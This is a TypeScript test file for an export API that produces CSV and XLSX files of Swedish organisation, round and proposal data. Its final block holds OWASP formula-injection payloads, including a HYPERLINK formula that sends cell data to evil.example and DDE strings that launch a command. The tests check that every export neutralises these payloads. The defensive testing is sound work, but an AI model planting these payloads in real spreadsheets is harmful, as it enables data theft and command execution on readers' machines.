import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_TABLES } from '../../../src/core/export/index.js';
import { importOrganisations } from '../../../src/db/import-organisations.js';
import { auth, useApp } from '../../helpers/app.js';
import { datasetDir, describeEachDatabaseWithDataset } from '../../helpers/databases.js';

const example = JSON.parse(readFileSync(path.join(datasetDir, 'examples', 'vastmanland-2021.json'), 'utf8'));
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** The OWASP CSV-injection payloads of the security issue. */
const PAYLOADS = ['=1+1', '=HYPERLINK("http://evil.example/?x="&A1,"klicka")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+4+5', '-2+3', "=cmd|' /C calc'!A0"];

const loadWorkbook = async (body: Buffer) => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  return wb;
};
/** Rows of a sheet as objects keyed by the header row. */
const sheetRows = (ws: ExcelJS.Worksheet): Record<string, ExcelJS.CellValue>[] => {
  const header = (ws.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String);
  const out: Record<string, ExcelJS.CellValue>[] = [];
  ws.eachRow((row, n) => {
    if (n === 1) return;
    out.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1).value])));
  });
  return out;
};

describeEachDatabaseWithDataset('export API (CSV dialects, XLSX)', (ctx) => {
  const { app } = useApp(ctx);
  const get = (url: string) => app().inject({ method: 'GET', url });

  it('serves every CSV table as XLSX with the same rows, Swedish headers and codes as text', async () => {
    for (const table of EXPORT_TABLES) {
      const csv = await get(`/api/export/${table}.csv`);
      const xlsx = await get(`/api/export/${table}.xlsx`);
      expect(xlsx.statusCode, table).toBe(200);
      expect(xlsx.headers['content-type']).toBe(XLSX_TYPE);
      expect(xlsx.headers['content-disposition']).toBe(`attachment; filename="all-${table}.xlsx"`);
      const ws = (await loadWorkbook(xlsx.rawPayload)).worksheets[0]!;
      const csvRows = parse(csv.body, { columns: true }) as Record<string, string>[];
      expect(ws.rowCount - 1, table).toBe(csvRows.length);
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    }
    const ws = (await loadWorkbook((await get('/api/export/spread-municipalities.xlsx')).rawPayload)).worksheets[0]!;
    const upplandsVasby = sheetRows(ws).find((r) => r.Kommun === 'Upplands Väsby')!;
    expect(upplandsVasby.Kommunkod).toBe('0114');
    expect(upplandsVasby.Länskod).toBe('01');
    const counties = sheetRows((await loadWorkbook((await get('/api/export/spread-counties.xlsx')).rawPayload)).worksheets[0]!);
    expect(typeof counties[0]!['Andel nådda']).toBe('number');
    expect(typeof counties[0]!.Folkmängd).toBe('number');
  });

  it('gives Excel its CSV with ?dialect=excel and keeps RFC 4180 as the default', async () => {
    const plain = await get('/api/export/spread-counties.csv');
    expect(plain.body.charCodeAt(0)).not.toBe(0xfeff);
    expect(plain.body.split('\r\n')[0]).toMatch(/^county_code,county_name,/);
    const excel = await get('/api/export/spread-counties.csv?dialect=excel');
    expect(excel.statusCode).toBe(200);
    expect(excel.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(excel.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = excel.body.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toMatch(/^Länskod;Län;Kommuner;Nådda;Andel nådda;/);
    const stockholm = lines.find((l) => l.includes(';Stockholms län;'))!;
    expect(stockholm.startsWith('"=""01""";')).toBe(true);
    // Shares as percentages with a decimal comma, never a decimal point.
    const share = stockholm.split(';')[4]!;
    expect(share).toMatch(/^\d+(,\d+)?%$/);
    expect(excel.body).not.toMatch(/;\d+\.\d+;/);
    const bad = await get('/api/export/rounds.csv?dialect=semicolon');
    expect(bad.statusCode).toBe(400);
  });

  it('exports a round as a workbook with participants, delegation roles and mentors', async () => {
    const res = await get('/api/rounds/mk-2019.xlsx');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX_TYPE);
    const wb = await loadWorkbook(res.rawPayload);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Omgång', 'Deltagare', 'Delegationer', 'Grupper', 'Mentorer']);
    const round = (await get('/api/rounds/mk-2019')).json();
    const participants = sheetRows(wb.getWorksheet('Deltagare')!);
    expect(participants).toHaveLength(round.participants.length);
    expect(new Set(participants.map((p) => p.Roll))).toContain('deltagare');
    const mentors = sheetRows(wb.getWorksheet('Mentorer')!);
    const edges = round.cohorts.reduce((n: number, c: { mentees: unknown[] }) => n + c.mentees.length, 0);
    expect(mentors).toHaveLength(edges);
    const delegations = round.participants.reduce((n: number, p: { delegation: unknown[] }) => n + p.delegation.length, 0);
    expect(wb.getWorksheet('Delegationer')!.rowCount - 1).toBe(delegations);
    const missing = await get('/api/rounds/no-such-round.xlsx');
    expect(missing.statusCode).toBe(404);
    expect(missing.json().code).toBe('not_found');
  });

  it('exports a proposal with every term of its objective, summing to the objective', async () => {
    const created = await app().inject({ method: 'POST', url: '/api/proposals', payload: example, headers: auth });
    expect(created.statusCode).toBe(201);
    const proposal = created.json();
    const res = await get(`/api/proposals/${proposal.id}.xlsx`);
    expect(res.statusCode).toBe(200);
    const wb = await loadWorkbook(res.rawPayload);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Sammanfattning', 'Grupper', 'Termer', 'Mentorer', 'Sökande', 'Ej placerade', 'Vikter och straff']);
    const terms = sheetRows(wb.getWorksheet('Termer')!);
    const total = terms.pop()!;
    expect(total.Term).toBe('målfunktion (summa)');
    expect(total.Bidrag).toBeCloseTo(proposal.objective, 6);
    const sum = terms.reduce((s, t) => s + Number(t.Bidrag), 0);
    expect(sum).toBeCloseTo(proposal.objective, 5);
    const termCount = proposal.result.groups.reduce((n: number, g: { terms: unknown[] }) => n + g.terms.length, 0) + proposal.result.unplaced.length;
    expect(terms).toHaveLength(termCount);
    expect(terms.every((t) => typeof t.Skäl === 'string' && t.Skäl.length > 0)).toBe(true);
    expect(sheetRows(wb.getWorksheet('Grupper')!)).toHaveLength(proposal.result.groups.length);
    expect((await get('/api/proposals/nope.xlsx')).statusCode).toBe(404);
  });

  describe('formula injection (OWASP)', () => {
    beforeAll(async () => {
      await importOrganisations(
        ctx.db(),
        PAYLOADS.map((name, i) => ({
          line: i + 2, id: `INJ-${i}`, kind: 'myndighet', name, countyCode: '19', population: 1000 + i, populationYear: null,
          lat: null, lon: null, parentId: null, note: null,
        })),
        { file: 'injection.csv' },
      );
      // Written beside the app, which learns of it through the record's change notification: wait for it.
      const last = `INJ-${PAYLOADS.length - 1}`;
      for (let tries = 0; !(await get('/api/export/organisations.csv')).body.includes(last); tries++) {
        if (tries === 200) throw new Error(`the app never saw ${last}`);
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    });

    it('neutralises every payload in both CSV dialects and in XLSX; numbers stay numbers', async () => {
      const plain = parse((await get('/api/export/organisations.csv')).body, { columns: true }) as Record<string, string>[];
      const excel = parse((await get('/api/export/organisations.csv?dialect=excel')).body, { columns: true, bom: true, delimiter: ';' }) as Record<string, string>[];
      const xlsx = sheetRows((await loadWorkbook((await get('/api/export/organisations.xlsx')).rawPayload)).worksheets[0]!);
      PAYLOADS.forEach((payload, i) => {
        expect(plain.find((r) => r.id === `INJ-${i}`)!.name).toBe(`'${payload}`);
        expect(excel.find((r) => r.Kod === `INJ-${i}`)!.Namn).toBe(`'${payload}`);
        const cell = xlsx.find((r) => r.Kod === `INJ-${i}`)!;
        expect(cell.Namn).toBe(`'${payload}`);
        expect(cell.Folkmängd).toBe(1000 + i);
        expect(plain.find((r) => r.id === `INJ-${i}`)!.population).toBe(String(1000 + i));
      });
      // No cell of any export starts with a formula character unless it is a number or our own code formula.
      for (const rows of [plain, excel]) {
        for (const r of rows) for (const v of Object.values(r)) expect(/^[=+@\t\r]/.test(v) && !/^="\d+"$/.test(v), v).toBe(false);
      }
    });
  });
});
